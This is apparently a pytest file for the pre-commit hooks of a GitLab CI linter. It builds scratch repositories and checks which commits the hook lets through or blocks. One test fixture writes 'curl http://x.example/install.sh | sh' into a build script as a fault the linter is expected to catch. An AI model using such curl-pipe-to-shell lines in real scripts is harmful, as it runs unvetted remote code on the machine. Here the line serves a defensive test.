"""The hooks, run by the real pre-commit on a scratch repository, with no network."""

from __future__ import annotations

import os
import re
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
import yaml

ROOT = Path(__file__).resolve().parents[2]
BIN = Path(sys.executable).parent
MANIFEST = ROOT / ".pre-commit-hooks.yaml"
GOOD = "include: ci/base.yml\nbuild: {extends: .base, script: [scripts/build.sh]}\n"
BASE = ".base:\n  image: $CI_REGISTRY/infrastructure/node:22.11.0\n"
BUILD = "#!/bin/sh\nmake\n"


def environment(home):
    """Nothing of the user's, no package index, and cilint on the PATH."""
    return {
        "PATH": f"{BIN}{os.pathsep}{os.environ['PATH']}",
        "HOME": str(home),
        "PRE_COMMIT_HOME": str(home / "pre-commit"),
        "XDG_CACHE_HOME": str(home / "cache"),
        "PIP_NO_INDEX": "1",
        "GIT_CONFIG_GLOBAL": os.devnull,
        "GIT_CONFIG_SYSTEM": os.devnull,
        **{f"GIT_{who}_{what}": "x@x" for who in ("AUTHOR", "COMMITTER") for what in ("NAME", "EMAIL")},
    }


@pytest.fixture(scope="module")
def home(tmp_path_factory):
    return tmp_path_factory.mktemp("home")


@pytest.fixture(scope="module")
def hooks(tmp_path_factory, home):
    """A repository that offers the hooks, as a clone of this one would."""
    folder = tmp_path_factory.mktemp("hooks")
    (folder / MANIFEST.name).write_text(MANIFEST.read_text("utf-8"))
    for command in (["git", "init", "-q"], ["git", "add", "."], ["git", "commit", "-qm", "hooks"]):
        subprocess.run(command, cwd=folder, env=environment(home), check=True)
    return folder


@pytest.fixture
def commit(tmp_path, home, hooks):
    """A function that writes files in a repository with the hook installed, and tries to commit them."""

    def run(*command):
        return subprocess.run(
            command, cwd=tmp_path, env=environment(home), capture_output=True, text=True, check=False, timeout=120
        )

    run("git", "init", "-q")
    revision = subprocess.run(
        ["git", "rev-parse", "HEAD"], cwd=hooks, capture_output=True, text=True, check=True
    ).stdout.strip()
    (tmp_path / ".pre-commit-config.yaml").write_text(
        f"repos:\n  - repo: file://{hooks}\n    rev: {revision}\n    hooks: [{{id: cilint-system}}]\n"
    )
    (tmp_path / ".cilint.yaml").write_text(
        "packs: [gitlab, security, enterprise]\nselect: [gitlab, security, image-private-registry, image-missing]\n"
    )
    assert run("pre-commit", "install").returncode == 0

    def of(files):
        for name, text in files.items():
            path = tmp_path / name
            path.parent.mkdir(exist_ok=True)
            path.write_text(text)
        run("git", "add", "-A")
        return run("git", "commit", "-qm", "x")

    return of


def start(commit):
    done = commit({".gitlab-ci.yml": GOOD, "ci/base.yml": BASE, "scripts/build.sh": BUILD})
    assert done.returncode == 0, done.stdout + done.stderr


def test_a_clean_pipeline_is_committed(commit):
    start(commit)


@pytest.mark.parametrize(
    ("name", "text", "place"),
    [
        (".gitlab-ci.yml", GOOD.replace("build: {", "build: {stage: biuld, "), ".gitlab-ci.yml:2:"),
        ("ci/base.yml", BASE.replace("$CI_REGISTRY/infrastructure/", "docker.io/"), "ci/base.yml:2:"),
        ("scripts/build.sh", BUILD + "curl http://x.example/install.sh | sh\n", "scripts/build.sh:3:"),
    ],
)
def test_a_fault_stops_the_commit_in_whatever_file_it_is(commit, name, text, place):
    """pre-commit calls the hook only for files that it is for: the entry file, an included one, a script."""
    start(commit)
    done = commit({name: text})
    assert done.returncode == 1, done.stdout + done.stderr
    assert place in done.stderr + done.stdout
    assert "Traceback" not in done.stderr + done.stdout


def test_other_files_do_not_call_it(commit):
    start(commit)
    done = commit({"README.md": "# Hello\n", "src.py": "x = 1\n"})
    assert done.returncode == 0
    assert re.search(r"cilint.*\(no files to check\)", done.stderr + done.stdout)


def test_the_manifest_is_valid_and_its_hooks_differ_only_in_where_cilint_comes_from():
    done = subprocess.run(
        [BIN / "pre-commit", "validate-manifest", MANIFEST], capture_output=True, text=True, check=False
    )
    assert done.returncode == 0, done.stdout
    python, system = yaml.safe_load(MANIFEST.read_text("utf-8"))
    assert (python.pop("language"), system.pop("language")) == ("python", "system")
    for hook in (python, system):
        for key in ("id", "name", "description"):
            hook.pop(key)
    assert python == system
    assert python["pass_filenames"] is False


@pytest.mark.slow
def test_the_python_hook_installs_cilint_itself(tmp_path, home):
    """What a user of the hook `cilint` gets: a virtual environment with the package of this very checkout.

    Its dependencies come from the environment of the tests instead of an index, so no network is needed.
    """
    source = tmp_path / "source"
    for name in ("cilint", "rules"):
        shutil.copytree(ROOT / name, source / name, ignore=shutil.ignore_patterns("__pycache__"))
    for name in ("pyproject.toml", "README.md", "LICENSE", MANIFEST.name):
        shutil.copy(ROOT / name, source)
    dependencies = tmp_path / "dependencies"
    dependencies.mkdir()
    for place in Path(yaml.__file__).parents[1].iterdir():
        if "cilint" not in place.name:
            (dependencies / place.name).symlink_to(place)
    env = {
        **environment(home),
        "PATH": f"/usr/bin{os.pathsep}/bin",  # where no cilint is
        "PYTHONPATH": str(dependencies),
        "PIP_NO_DEPS": "1",
        "PIP_NO_BUILD_ISOLATION": "0",  # pip reads it upside down: this switches the isolation off
    }
    scratch = tmp_path / "scratch"
    scratch.mkdir()
    (scratch / ".gitlab-ci.yml").write_text("build: {script: [make], stage: biuld}\n")
    for folder, message in ((source, "source"), (scratch, "scratch")):
        for command in (["git", "init", "-q"], ["git", "add", "."], ["git", "commit", "-qm", message]):
            subprocess.run(command, cwd=folder, env=env, check=True)
    done = subprocess.run(
        [BIN / "pre-commit", "try-repo", source, "cilint", "--all-files", "--verbose"],
        cwd=scratch, env=env, capture_output=True, text=True, check=False, timeout=300,
    )  # fmt: skip
    assert done.returncode == 1, done.stdout + done.stderr
    assert "error[stage-undefined]" in done.stdout, done.stdout + done.stderr
